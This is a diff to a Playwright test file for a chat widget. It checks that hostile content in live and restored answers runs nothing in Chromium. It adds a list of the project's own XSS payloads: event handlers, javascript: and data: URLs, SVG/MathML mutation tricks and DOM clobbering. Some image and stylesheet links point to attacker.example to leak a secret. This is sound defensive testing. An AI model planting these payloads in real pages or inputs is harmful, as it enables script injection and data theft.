@@ -1,6 +1,7 @@
 """Rendering answers safely: public XSS corpora rendered in Chromium, live and restored.
 
-The corpora are read in place from ../shared/corpus; without them these tests fail.
+The project's own payloads always run; the public corpora run where they are present
+(`tests/corpora.py`) and are skipped, with the reason shown, where they are not.
 """
 
 from __future__ import annotations
@@ -11,11 +12,10 @@ from typing import Any
 from urllib.parse import urlparse
 
 import pytest
+from corpora import corpus_path
 from pages import host_page, log, send
 from playwright.sync_api import Page, Route, expect
-from servers import ROOT
 
-CORPUS = ROOT.parent / "shared" / "corpus" / "xss"
 TRAPS = """
 window.__ran = [];
 for (const name of ['alert', 'confirm', 'prompt', 'print']) {
@@ -26,22 +26,15 @@ for (const name of ['alert', 'confirm', 'prompt', 'print']) {
 AUDIT = (Path(__file__).parent / "audit.js").read_text()
 
 
-def corpus_file(name: str) -> Path:
-    path = CORPUS / name
-    if not path.is_file():
-        pytest.fail(f"the XSS corpus {path} was not found: ../shared/corpus must be present")
-    return path
-
-
 def dompurify_payloads() -> list[str]:
-    cases = json.loads(corpus_file("dompurify-payloads.json").read_text())
+    cases = json.loads(corpus_path("xss", "dompurify-payloads.json").read_text())
     assert len(cases) == 223
     return [case["payload"] for case in cases]
 
 
 def markdown_it_cases() -> list[str]:
     """The inputs of markdown-it's XSS fixtures: blocks of description, input, output."""
-    lines = corpus_file("markdown-it-xss.txt").read_text().split("\n")
+    lines = corpus_path("xss", "markdown-it-xss.txt").read_text().split("\n")
     inputs: list[str] = []
     dots = [i for i, line in enumerate(lines) if line == "."]
     for start in range(0, len(dots) - 2, 3):
@@ -50,19 +43,53 @@ def markdown_it_cases() -> list[str]:
     return inputs
 
 
-def hostile_inputs() -> list[str]:
-    extra = [
-        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
-        "[d](%6Aavascript:alert(1))",
-        "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-        "[f](vbscript:msgbox(1)) [g](file:///etc/passwd) [h](&#x6A;avascript:alert(1))",
-        "<javascript:alert(1)> <https://ok.example/path>",
-        "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
-        '<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src="javascript:alert(1)">',
-        '<form id="chat"><input name="attributes"></form> <a id="__ran" name="x">clobber</a>',
-        "<style>* { display: none }</style><meta http-equiv=refresh content=0;url=https://x.example>",
-    ]
-    return dompurify_payloads() + markdown_it_cases() + extra
+# The project's own payloads, one or more for every class the public corpora cover. They run
+# in every clone; the corpora add breadth where they are present.
+OWN_PAYLOADS = [
+    # script and event-handler injection
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>",
+    '<a href="#" onclick="alert(1)">click</a> <div onmouseover="alert(1)">hover</div>',
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe> <object data=x></object>",
+    '<input autofocus onfocus=alert(1)> <video><source onerror="alert(1)"></video>',
+    # javascript: and data: URLs, in Markdown and in HTML
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
+    "[d](%6Aavascript:alert(1)) [h](&#x6A;avascript:alert(1)) [i](javascript&colon;alert(1))",
+    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[f](vbscript:msgbox(1)) [g](file:///etc/passwd) <javascript:alert(1)>",
+    '<a href="javascript:alert(1)">x</a> <a href=" javascript:alert(1)">y</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>"> <embed src="data:text/html,x">',
+    "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
+    "[![img](javascript:alert(1))](javascript:alert(2))",
+    # SVG and MathML
+    '<svg onload=alert(1)><script>alert(2)</script></svg> <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    '<math href="javascript:alert(1)">x</math> <svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
+    # CSS
+    "<style>* { display: none }</style> <div style=\"background:url(javascript:alert(1))\">s</div>",
+    '<link rel=stylesheet href="https://attacker.example/x.css"> <p style="position:fixed;inset:0">cover</p>',
+    # broken and nested markup
+    "<img src=x onerror=alert(1)//",
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<a href="https://ok.example" <img src=x onerror=alert(1)>>x</a>',
+    "<!--<img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<form id="chat"><input name="attributes"></form> <a id="__ran" name="x">clobber</a>',
+    "<meta http-equiv=refresh content=0;url=https://x.example> <base href=https://x.example/>",
+    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
+    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
+]
+
+
+def hostile_inputs(source: str) -> list[str]:
+    if source == "own":
+        return OWN_PAYLOADS
+    return dompurify_payloads() + markdown_it_cases()
+
+
+SOURCES = pytest.mark.parametrize("source", ["own", "public corpora"])
 
 
 @pytest.fixture
@@ -84,8 +111,18 @@ def guarded(page: Page) -> list[str]:
     return outside
 
 
+def settle_media(page: Page) -> None:
+    """Wait until every image has loaded or failed and two frames have passed: anything that
+    would fire (onerror, onload, a redraw) has had its chance."""
+    page.wait_for_function(
+        "[...document.querySelector('chat-widget').shadowRoot.querySelectorAll('img')]"
+        ".every(img => img.complete)"
+    )
+    page.evaluate("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
+
+
 def audit(page: Page, outside: list[str], expected_articles: int) -> None:
-    page.wait_for_timeout(300)  # give anything that would fire (onerror, onload) the chance to
+    settle_media(page)
     result: dict[str, Any] = page.evaluate(AUDIT)
     assert result["articles"] >= expected_articles
     assert result["ran"] == [], result["ran"][:5]
@@ -114,9 +151,12 @@ def answer_with(page: Page, *answers: str) -> None:
     )
 
 
-def test_hostile_answers_streamed_live_run_nothing(page: Page, guarded: list[str]) -> None:
+@SOURCES
+def test_hostile_answers_streamed_live_run_nothing(
+    page: Page, guarded: list[str], source: str
+) -> None:
+    payloads = hostile_inputs(source)
     host_page(page, 'history="memory"')
-    payloads = hostile_inputs()
     batches = [payloads[i : i + 40] for i in range(0, len(payloads), 40)]
     answer_with(page, *("\n\n".join(batch) for batch in batches))
     for number in range(len(batches)):
@@ -125,10 +165,12 @@ def test_hostile_answers_streamed_live_run_nothing(page: Page, guarded: list[str
     audit(page, guarded, 2 * len(batches))
 
 
-def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str]) -> None:
+@SOURCES
+def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str], source: str) -> None:
+    payloads = hostile_inputs(source)
     host_page(page, 'history="memory"')
     messages: list[dict[str, Any]] = []
-    for number, payload in enumerate(hostile_inputs()):
+    for number, payload in enumerate(payloads):
         call = {
             "id": f"c{number}",
             "type": "function",
@@ -145,7 +187,7 @@ def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str]) -
         "updated": 2, "model": "demo", "thinking": "off", "messages": messages,
     }  # fmt: skip
     page.evaluate("s => document.querySelector('chat-widget').session.restore(s)", snapshot)
-    expect(log(page).locator("article[data-role=tool]")).to_have_count(len(hostile_inputs()))
+    expect(log(page).locator("article[data-role=tool]")).to_have_count(len(payloads))
     expect(page.get_by_role("heading", level=2)).to_have_text("<img src=x onerror=alert(1)>")
     audit(page, guarded, len(messages))
 
